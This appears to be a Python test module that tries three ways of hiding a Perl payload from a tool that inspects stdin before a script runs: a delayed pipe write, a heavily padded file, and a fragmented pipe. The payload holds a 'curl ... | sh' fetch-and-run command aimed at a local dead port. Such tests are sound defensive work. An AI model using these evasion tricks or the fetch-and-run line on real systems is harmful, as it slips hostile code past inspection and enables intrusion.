"""Text that is not seen whole."""

import contextlib
import fcntl
import os
import time
from pathlib import Path

from .common import PERL, child, trick

EVIL = 'open my $f, ">", "MARK"; system("curl http://127.0.0.1:9/x | sh");'


@trick("text", "harmless text first, the rest once the pipe is read")
def late_text():
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(reader, 0)
        os.close(writer)
        os.execv(PERL, ["perl", "-"])
    os.close(reader)
    os.write(writer, b"1;\n")
    time.sleep(1)
    with contextlib.suppress(OSError):
        os.write(writer, EVIL.encode())
    os.close(writer)
    os.waitpid(pid, 0)


@trick("text", "a file on stdin that is larger than what is read of it")
def large_file():
    Path("text").write_text("1;\n" * 500_000 + EVIL)

    def go():
        os.dup2(os.open("text", os.O_RDONLY), 0)
        os.execv(PERL, ["perl", "-"])

    child(go)


@trick("text", "a pipe of many small pieces, whose copy takes more memory than a user may have in pipes")
def small_pieces():
    reader, writer = os.pipe()
    for _ in range(12):
        os.write(writer, b"1;\n")
        fcntl.fcntl(writer, 1031, 1 << 16)
    pid = os.fork()
    if pid == 0:
        os.dup2(reader, 0)
        os.close(writer)
        os.execv(PERL, ["perl", "-"])
    os.close(reader)
    time.sleep(0.5)
    with contextlib.suppress(OSError):
        os.write(writer, EVIL.encode())
    os.close(writer)
    os.waitpid(pid, 0)
